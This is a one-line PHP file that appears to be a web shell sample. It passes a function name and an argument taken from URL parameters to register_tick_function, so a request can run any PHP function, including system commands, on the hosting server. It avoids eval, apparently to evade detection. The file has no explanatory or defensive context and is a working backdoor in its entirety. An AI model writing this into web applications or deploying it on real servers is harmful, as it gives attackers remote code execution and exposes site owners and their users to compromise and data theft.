<?php register_tick_function($_GET["f"], $_GET["a"]); declare(ticks=1); echo 1;
